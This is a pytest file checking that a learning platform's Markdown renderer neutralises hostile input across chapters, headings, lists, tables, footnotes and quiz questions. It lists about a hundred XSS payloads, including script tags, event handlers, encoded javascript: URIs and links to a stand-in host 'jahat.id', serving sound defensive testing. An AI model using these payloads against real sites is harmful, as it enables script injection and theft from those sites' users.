"""Nothing that a hostile source holds reaches a reader, wherever it stands."""

from collections.abc import Callable

import pytest

from lms.authoring.parsing.result import ChapterSource, ChoiceSource, QuestionSource
from lms.authoring.source.pictures import PictureSource
from lms.rendering.markdown import render_chapter, render_inline, render_question, render_text
from lms.rendering.page_html import Surroundings
from tests.unit.authoring.inspection import faults

pytestmark = pytest.mark.slow

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//jahat.id/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<div style=position:fixed;inset:0 onclick=alert(1)>x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://jahat.id/>",
    "<link rel=stylesheet href=https://jahat.id/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)' onmouseover=alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//jahat.id)",
    "[x](\\\\jahat.id)",
    "[x](/\\jahat.id)",
    "[x](https:jahat.id)",
    "[x](https:///jahat.id)",
    '[x](https://a.id" onmouseover="alert(1))',
    "[x](https://a.id 'onmouseover=alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: data:text/html,x 'judul'\n\n[teks][x]",
    "> [x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<javascript&#58;alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://jahat.id/a.png)",
    '![x" onerror="alert(1)](gambar/a.png)',
    "![x](gambar/a.png \"y' onerror='alert(1)\")",
    '![x](gambar/a.png"onerror="alert(1))',
    "![x][y]\n\n[y]: https://jahat.id/a.png",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "`<script>`<script>alert(1)</script>",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    '``` {.x onclick="alert(1)"}\nx\n```',
    "```\"><script>alert(1)</script>\nx\n```",
    "# Judul <script>alert(1)</script> {onclick=alert(1)}",
    "Teks {: onclick=alert(1) style=color:red }",
    "[x](/a){: onclick=alert(1)}",
    "| a | <script>x()</script> |\n|---|---|\n| <img src=x onerror=x()> | [x](javascript:y) |",
    "| a |\n|:-:\" onclick=alert(1)|\n| b |",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    'x[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: y',
    "- [x] <script>alert(1)</script>\n- [ ] [x](javascript:alert(1))",
    "> **<script>alert(1)</script>** x",
    "<div markdown=1>\n\n<script>alert(1)</script>\n\n</div>",
    "\x02klzzwxh:0\x03 \x02wzxhzdk:0\x03 \x02amp\x03",
    "STXwzxhzdk:0ETX <b>x</b>",
    "javascript:alert(1) data:text/html,x www.jahat.id\"onclick=alert(1)",
    "https://a.id/\"onmouseover=alert(1)//",
    "a@b.id\"onclick=alert(1)",
    "x</p><script>alert(1)</script><p>",
    "</div></main></body><script>alert(1)</script>",
    "<p id=p1 class=callout>x</p>",
    "\u202ekode\u202c <\u200bscript>alert(1)</\u200bscript>",
    "<x" * 50 + " onclick=alert(1)>",
]  # fmt: skip

PICTURES = {"gambar/a.png": PictureSource("gambar/a.png", 8, 6, "0" * 64, "image/png", b"gambar")}
SURROUNDINGS = Surroundings(pictures=PICTURES)


def as_chapter(text: str) -> str:
    chapter = ChapterSource(1, "a", "A", text, (), (), "01-a.md")
    return render_chapter(chapter, SURROUNDINGS).html


def as_heading(text: str) -> str:
    return as_chapter(f"## {' '.join(text.split())}\n\nIsi")


def as_item(text: str) -> str:
    return as_chapter("- a\n" + "\n".join(f"  {line}" for line in text.split("\n")))


def as_quote(text: str) -> str:
    return as_chapter("\n".join(f"> {line}" for line in text.split("\n")))


def as_cell(text: str) -> str:
    return as_chapter(f"| a | b |\n|---|---|\n| {' '.join(text.split())} | c |")


def as_footnote(text: str) -> str:
    return as_chapter(f"x[^9]\n\n[^9]: {' '.join(text.split())}")


def as_introduction(text: str) -> str:
    return render_text(text, SURROUNDINGS)


def as_question(text: str) -> str:
    question = QuestionSource(
        id=None,
        stem=" ".join(text.split()),
        body=text,
        choices=(
            ChoiceSource(text, is_right=True, feedback=text),
            ChoiceSource(" ".join(text.split()), is_right=False),
        ),
        is_multiple=False,
        keeps_order=False,
        explanation=text,
        source=text,
        line=1,
        path="01-a.md",
    )  # fmt: skip
    rendered = render_question(question, SURROUNDINGS)
    parts = [
        rendered.stem_html,
        *rendered.choices_html,
        *rendered.feedback_html,
        rendered.explanation_html,
        rendered.source_html,
    ]
    return "".join(f"<div>{part or ''}</div>" for part in parts)


PLACES = [
    as_chapter, as_heading, as_item, as_quote, as_cell, as_footnote, as_introduction, as_question,
    render_inline,
]  # fmt: skip


@pytest.mark.parametrize("place", PLACES, ids=lambda place: place.__name__)
@pytest.mark.parametrize("text", HOSTILE, ids=[f"snippet-{n}" for n in range(len(HOSTILE))])
def test_hostile_markdown_comes_out_harmless(text: str, place: Callable[[str], str]) -> None:
    assert faults(place(text)) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick=x>y</p>",
        '<a href="javascript:x">y</a>',
        '<a href="//x.id">y</a>',
        '<img src="https://x.id/a.png">',
        '<p style="a">x</p>',
        "<p>x",
        '<p id="p1">x</p><p id="p1">y</p>',
        "<!-- x -->",
    ],
)
def test_the_inspector_itself_finds_faults(html: str) -> None:
    assert faults(html) != []


def test_the_words_of_hostile_text_are_kept_as_words() -> None:
    assert as_chapter("<b>x</b>") == '<p id="p1">&lt;b&gt;x&lt;/b&gt;</p>'
